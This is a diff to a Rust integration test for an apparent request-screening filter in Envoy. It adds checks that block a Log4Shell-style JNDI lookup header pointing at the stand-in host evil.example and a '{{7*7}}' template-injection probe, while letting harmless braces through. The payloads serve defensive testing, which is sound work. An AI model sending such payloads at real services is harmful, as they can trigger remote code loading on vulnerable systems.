@@ -96,6 +96,27 @@ fn screening_in_envoy() {
         403,
         "request_blocked",
     );
+    // The categories beyond those four are on by default: a JNDI lookup in a header the
+    // policy does not list, template injection in the query; and prose with braces passes.
+    assert_refused(
+        &get(
+            addr,
+            "/",
+            &[("x-api-version", "${jndi:ldap://evil.example/a}")],
+        ),
+        403,
+        "request_blocked",
+    );
+    assert_refused(
+        &get(addr, "/items?q=%7B%7B7*7%7D%7D", &[]),
+        403,
+        "request_blocked",
+    );
+    upstream_saw(&get(
+        addr,
+        "/items?q=Hello+%7B%7Bname%7D%7D",
+        &[("x-note", "${PRICE}")],
+    ));
 
     // 413 from Content-Length alone: the headers arrive, no body is sent, the answer comes.
     let r = send_raw(
@@ -225,7 +246,19 @@ fn screening_in_envoy() {
         envoy.counter(r#"pavise_screen_limit_refusals_total{limit="content-type"}"#),
         1
     );
-    assert_eq!(envoy.counter("pavise_screen_passed_total"), 3);
+    assert_eq!(
+        envoy.counter(r#"pavise_screen_findings_total{category="jndi",mode="block"}"#),
+        1
+    );
+    assert_eq!(
+        envoy.counter(r#"pavise_screen_findings_total{rule="jndi-001"}"#),
+        1
+    );
+    assert_eq!(
+        envoy.counter(r#"pavise_screen_findings_total{category="ssti",mode="block"}"#),
+        1
+    );
+    assert_eq!(envoy.counter("pavise_screen_passed_total"), 4);
     assert_eq!(
         envoy.counter(r#"pavise_internal_errors_total{filter="screen"}"#),
         0
